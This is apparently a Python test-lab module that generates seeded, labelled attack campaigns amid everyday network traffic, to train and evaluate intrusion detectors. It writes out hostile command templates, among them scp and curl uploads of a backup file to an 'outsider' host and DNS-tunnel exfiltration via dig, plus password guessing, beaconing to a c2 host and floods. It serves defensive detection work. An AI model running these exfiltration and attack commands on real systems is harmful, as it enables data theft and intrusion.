"""Campaigns: multi-stage attacks of real tools amid everyday traffic, drawn from a seed.

Each campaign is a scenario of a few minutes: one station (or someone outside) goes through some of
the stages of an attack, in their usual order but with stages left out, repeated, slow or quick,
while others go about their business. Numbers that divide by four have no attack at all. They are
recorded for training and for judging models, not shipped:

    python -m tests.lab.campaigns .cache/campaigns 1 2 3
"""

from __future__ import annotations

import random
import sys
from dataclasses import replace
from pathlib import Path

from tests.lab.record import record
from tests.lab.scenario import Scenario, Step, Truth
from tests.lab.scenarios import _attacks as attacks
from tests.lab.scenarios import _everyday as everyday

STAGE_OF_TECHNIQUE = {
    "T1018": "reconnaissance",
    "T1046": "reconnaissance",
    "T1110.001": "access",
    "T1071.001": "command and control",
    "T1071.004": "command and control",
    "T1021.004": "lateral movement",
    "T1570": "lateral movement",
    "T1048.002": "exfiltration",
    "T1048.003": "exfiltration",
    "T1498.001": "impact",
    "T1499.001": "impact",
}
_SPAN_S = 210  # from the first step of the story to the last one's start, at most
_SSH = everyday._SSH
_OPTIONS = everyday._OPTIONS


def campaign(number: int) -> Scenario:
    """The campaign of that number; the same number gives the same steps."""
    chance = random.Random(f"campaign {number}")
    attacker = chance.choice(("camera", "camera", "phone", "laptop", "outsider"))
    benign = number % 4 == 0
    return Scenario(
        steps=(*_noise(chance), *(() if benign else _story(chance, attacker))),
        max_seconds=460,
        max_packets=150_000,
        snaplen=160,
        services=("web", "dns", "ssh", "ftp", "iperf", "c2", "drop"),
        name=f"campaign_{number:03}",
        sentence="Everyday traffic of some minutes, drawn by chance."
        if benign
        else f"An attack in stages by the {attacker}, amid everyday traffic, drawn by chance.",
    )


def _story(chance: random.Random, attacker: str) -> list[Step]:
    """The stages of one attack, most of them, in their usual order."""
    inside = attacker != "outsider"
    stages = [_reconnaissance, _access, _lateral]
    if inside:
        stages += [_exfiltration, _impact]
        stages.insert(chance.randrange(len(stages)), _command)
    kept = [stage for stage in stages if chance.random() < 0.8] or stages[:2]
    if inside and chance.random() < 0.25:  # some begin elsewhere: with the implant's own call
        kept = [_command, *(stage for stage in kept if stage is not _command)]
    at, steps = chance.uniform(4, 20), list[Step]()
    pause = _SPAN_S / max(len(kept), 1)
    for stage in kept:
        for step in stage(chance, attacker):
            steps.append(step.moved(at))
        at += chance.uniform(0.4, 1.0) * pause
    return steps


def _reconnaissance(chance: random.Random, attacker: str) -> list[Step]:
    rate = chance.choice((20, 60, 200, 400))
    ports = min(1000, rate * 25)
    pace = f"--top-ports {ports} --max-rate {rate}"
    scans = [
        attacks.port_scan(attacker, "nas", pace, seconds=90),
        attacks.port_scan(attacker, "nas", "-sV --top-ports 30 --max-rate 50", seconds=120),
    ]
    if attacker != "outsider":  # the tap does not see what stays outside
        scans += [
            attacks.port_scan(attacker, "web", pace, seconds=90),
            attacks.address_sweep(attacker, "198.51.100.0/24", f"-sn --max-rate {max(rate, 60)}"),
        ]
    return _apart(chance, chance.sample(scans, chance.choice((1, 1, 2))), 10)


def _access(chance: random.Random, attacker: str) -> list[Step]:
    service = chance.choice(("ssh", "ftp"))
    tasks = chance.choice((1, 2, 4))
    guesses = chance.choice((8, 16, 30)) * (1 if tasks == 1 else 2)
    step = attacks.password_guess(attacker, service, min(guesses, 60), f"-t {tasks}")
    return [replace(step, seconds=170)]


def _command(chance: random.Random, attacker: str) -> list[Step]:
    every, times = chance.choice((5.0, 8.0, 12.0)), chance.randrange(12, 26)
    jitter = chance.choice((0.05, 0.2, 0.4))
    if chance.random() < 0.6:
        return [attacks.beaconing(attacker, every, times, jitter)]
    ask = Step(
        attacker,
        f"dig +tries=1 +time=2 @{{c2}} TXT {chance.randrange(1 << 30):x}.lan-party.example",
        times=times,
        every=every,
        jitter=jitter,
        truth=_truth("T1071.004", attacker, "c2", "asks for orders by DNS", "udp dst port 53"),
    )
    return [ask]


def _lateral(chance: random.Random, attacker: str) -> list[Step]:
    words = "id; ls -l /usr/bin | head -80; df; sleep 2"
    sessions = Step(
        attacker,
        f"{_SSH} '{words}'",
        times=chance.choice((1, 2, 3)),
        every=8,
        jitter=0.5,
        exits=(0, 255),
        truth=_truth("T1021.004", attacker, "nas", "a session with what was guessed", "port 22"),
    )
    tool = Step(
        attacker,
        f"scp -q {_OPTIONS} {{room}}/backup.bin {{user}}@{{nas}}:tool-{chance.randrange(9)}",
        at=4.0,
        seconds=60,
        exits=(0, 255),
        truth=_truth("T1570", attacker, "nas", "a tool copied over SSH", "port 22"),
    )
    return [sessions, tool] if chance.random() < 0.6 else [sessions]


def _exfiltration(chance: random.Random, attacker: str) -> list[Step]:
    ways = ("ssh", "http", "dns")
    return [_take_out(chance, attacker, way) for way in chance.sample(ways, chance.choice((1, 2)))]


def _take_out(chance: random.Random, attacker: str, way: str) -> Step:
    times = chance.randrange(3, 9)
    if way == "ssh":
        return Step(
            attacker,
            f"scp -q {_OPTIONS} {{room}}/backup.bin {{user}}@{{outsider}}:loot",
            times=times,
            every=6,
            jitter=0.5,
            seconds=60,
            truth=_truth("T1048.002", attacker, "outsider", "files sent over SSH", "port 22"),
        )
    if way == "http":
        size = chance.choice((120_000, 400_000, 900_000))
        return Step(
            attacker,
            f"bash -c 'head -c {size} {{room}}/backup.bin"
            " | curl -s -m 20 -o /dev/null -H Expect: --data-binary @- http://{outsider}/in'",
            times=times,
            every=5,
            jitter=0.5,
            truth=_truth("T1048.003", attacker, "outsider", "files posted to a server", "port 80"),
        )
    names = f"{{room}}/names-{attacker}"
    cut = f"head -c {chance.choice((1500, 3000, 5000))} {{room}}/backup.bin | od -An -v -tx1 -w24"
    return Step(
        attacker,
        f'bash -c \'{cut} | tr -d " " | sed "s/$/.lan-party.example/" >{names}'
        f" && exec dig @{{outsider}} +tries=1 +time=2 TXT -f {names}'",
        seconds=90,
        truth=_truth("T1048.003", attacker, "outsider", "a file in names", "udp dst port 53"),
    )


def _impact(chance: random.Random, attacker: str) -> list[Step]:
    gap = chance.choice((500, 1000, 3000))
    count = 8_000_000 // gap
    kind = chance.choice((attacks.syn_flood, attacks.udp_flood, attacks.icmp_flood))
    return [kind(attacker, chance.choice(("web", "nas")), count, gap)]


def _noise(chance: random.Random) -> list[Step]:
    """What everyone does, the attacker's host too; some of it looks like an attack and is none."""
    everyone = [
        everyday.browsing("laptop", times=24, every=chance.uniform(7, 16)),
        everyday.browsing("phone", times=16, every=chance.uniform(10, 24)),
        everyday.browsing("camera", times=6, every=40, at=chance.uniform(0, 30)),
        everyday.lookups("laptop", times=18, every=17, at=chance.uniform(0, 10)),
        everyday.lookups("phone", times=12, every=23, at=chance.uniform(0, 10)),
    ]
    some = [
        everyday.login("admin", times=4, every=60, at=9),
        everyday.mistyped_login("admin", times=3, every=90, at=30),
        everyday.copy("laptop", times=2, every=120, at=chance.uniform(10, 60)),
        everyday.closed_port("phone", times=10, every=25),
        everyday.many_servers("laptop", times=3, every=80, at=20),
        everyday.health_check("admin", times=24, every=12),
        everyday.dead_server("camera", times=7, every=45, at=5),
        everyday.call("phone", seconds=40, at=60),
        everyday.monitoring_ping("admin", "nas", count=200),
        _upload("laptop", chance.randrange(2, 6), at=chance.uniform(20, 120)),
        _upload("camera", chance.randrange(4, 12), at=chance.uniform(5, 60)),
        _remote_work("admin", at=chance.uniform(20, 90)),
    ]
    return everyone + chance.sample(some, chance.randrange(4, 9))


def _upload(actor: str, times: int, at: float) -> Step:
    """Pictures sent to a server outside."""
    return Step(
        actor,
        "bash -c 'head -c 600000 {room}/backup.bin"
        " | curl -s -m 20 -o /dev/null -H Expect: --data-binary @- http://{web}/album'",
        at=at,
        times=times,
        every=14,
        jitter=0.8,
    )


def _remote_work(actor: str, at: float) -> Step:
    """A session on a server outside, with the right password; that server is a rented one."""
    session = _SSH.replace("{nas}", "{outsider}")
    return Step(
        actor,
        f"{session} 'uptime; sleep 20; df'",
        at,
        seconds=60,
        times=2,
        every=70,
        exits=(0, 255),
    )


def _truth(technique: str, attacker: str, victim: str, note: str, packets: str) -> Truth:
    return Truth(
        detector="",  # no rule speaks of it
        technique=technique,
        note=note,
        packets=f"src host {{{attacker}}} and dst host {{{victim}}} and {packets}",
        src=attacker,
        dst=victim,
    )


def _apart(chance: random.Random, steps: list[Step], seconds: float) -> list[Step]:
    return [
        step.moved(index * chance.uniform(0.5, 1) * seconds) for index, step in enumerate(steps)
    ]


def main(arguments: list[str]) -> int:
    """Record campaigns: a folder, then numbers."""
    folder = Path(arguments[0])
    for number in map(int, arguments[1:]):
        path = record(campaign(number), folder)
        print(f"{path} ({path.stat().st_size:,} bytes)", flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
